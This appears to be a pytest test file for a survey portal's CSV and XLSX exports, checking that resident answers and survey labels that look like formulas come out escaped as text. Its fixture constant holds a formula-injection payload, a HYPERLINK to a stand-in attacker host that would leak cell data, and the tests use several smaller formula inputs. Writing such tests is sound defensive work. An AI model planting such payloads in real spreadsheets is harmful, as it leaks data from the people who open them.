"""Exports are produced as in production and are safe to open in a spreadsheet (#14, 1 and 3)."""

from __future__ import annotations

import csv
import io
import uuid
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from portal.extensions import db
from portal.models import Answer, Response, Survey
from portal.spreadsheets import csv_row, guard, unescape_cell, xlsx_row

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def city_with_survey(make_city, make_user, make_survey, add_responses):
    city = make_city(slug="kumanovo")
    survey = make_survey(city)
    add_responses(survey, 12)
    return city, survey, make_user("coordinator", city=city)


def _add_text_answer(survey: Survey, text: str) -> None:
    comment = next(q for q in survey.questions if q.name == "comment")
    response = Response(survey_id=survey.id, uuid=str(uuid.uuid4()), answers_hash="t",
                        submitted_on=date(2025, 3, 5))
    response.answers.append(Answer(question_id=comment.id, value_text=text))
    db.session.add(response)
    db.session.commit()


def _microdata(client, kind: str):
    response = client.post("/c/kumanovo/results/resilience/microdata",
                           data={"confirm": "y", "file_format": kind})
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return response.get_data()


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_microdata_stream_runs_after_the_request_ends(city_with_survey, client, login, kind):
    """The body is produced after teardown, as a WSGI server does: every row arrives."""
    _, _, coordinator = city_with_survey
    login(coordinator)
    body = _microdata(client, kind)
    if kind == "csv":
        rows = list(csv.reader(io.StringIO(body.decode())))
    else:
        rows = list(load_workbook(io.BytesIO(body), read_only=True)["responses"]
                    .iter_rows(values_only=True))
    assert len(rows) == 13
    assert list(rows[0][:2]) == ["response", "submitted_week"]


def test_resident_formula_is_text_in_the_microdata_csv(city_with_survey, client, login):
    _, survey, coordinator = city_with_survey
    _add_text_answer(survey, HOSTILE)
    login(coordinator)
    rows = list(csv.reader(io.StringIO(_microdata(client, "csv").decode())))
    column = rows[0].index("comment")
    assert rows[-1][column] == "'" + HOSTILE
    assert not any(cell.startswith("=") for row in rows for cell in row)


def test_resident_formula_is_text_in_the_microdata_xlsx(city_with_survey, client, login):
    _, survey, coordinator = city_with_survey
    _add_text_answer(survey, HOSTILE)
    login(coordinator)
    body = _microdata(client, "xlsx")
    sheet = load_workbook(io.BytesIO(body))["responses"]
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=sheet.max_row, column=header.index("comment") + 1)
    assert cell.value == "'" + HOSTILE
    assert cell.data_type == "s"
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_control_character_in_an_answer_does_not_break_the_xlsx(city_with_survey, client, login):
    """The export cleans the cell; the stored answer keeps what the resident typed."""
    _, survey, coordinator = city_with_survey
    _add_text_answer(survey, "a\x0bb")
    login(coordinator)
    sheet = load_workbook(io.BytesIO(_microdata(client, "xlsx")))["responses"]
    header = [c.value for c in sheet[1]]
    assert sheet.cell(row=sheet.max_row, column=header.index("comment") + 1).value == "ab"
    stored = db.session.scalar(select(Answer.value_text).where(Answer.value_text.like("a%b")))
    assert stored == "a\x0bb"


def test_numbers_stay_numbers_in_the_microdata_xlsx(city_with_survey, client, login):
    _, _, coordinator = city_with_survey
    login(coordinator)
    sheet = load_workbook(io.BytesIO(_microdata(client, "xlsx")))["responses"]
    assert isinstance(sheet.cell(row=2, column=1).value, int)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_survey_labels_are_text_in_the_aggregate_exports(city_with_survey, client, login, kind):
    """Labels come from whoever wrote the survey; regional coordinators open these files."""
    city, survey, coordinator = city_with_survey
    for choice in next(q for q in survey.questions if q.name == "gender").choices:
        choice.label = {"en": "=1+1"}
    db.session.commit()
    login(coordinator)
    response = client.get(f"/c/kumanovo/results/resilience/results.{kind}")
    assert response.status_code == 200
    if kind == "csv":
        cells = [c for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for c in row]
    else:
        sheet = load_workbook(io.BytesIO(response.get_data()))["results"]
        cells = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert not any(c.startswith("=") for c in cells)


@pytest.mark.parametrize("text", ["=A1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"])
def test_formula_like_text_is_guarded_and_read_back(text):
    assert guard(text) == "'" + text
    assert unescape_cell(guard(text)) == text
    assert csv_row([text, 3, None]) == ["'" + text, 3, None]


def test_xlsx_rows_drop_characters_xml_cannot_hold():
    assert xlsx_row(["a\x00b\x0bc\ufffe", "\x0b=cmd", 1.5]) == ["abc", "'=cmd", 1.5]
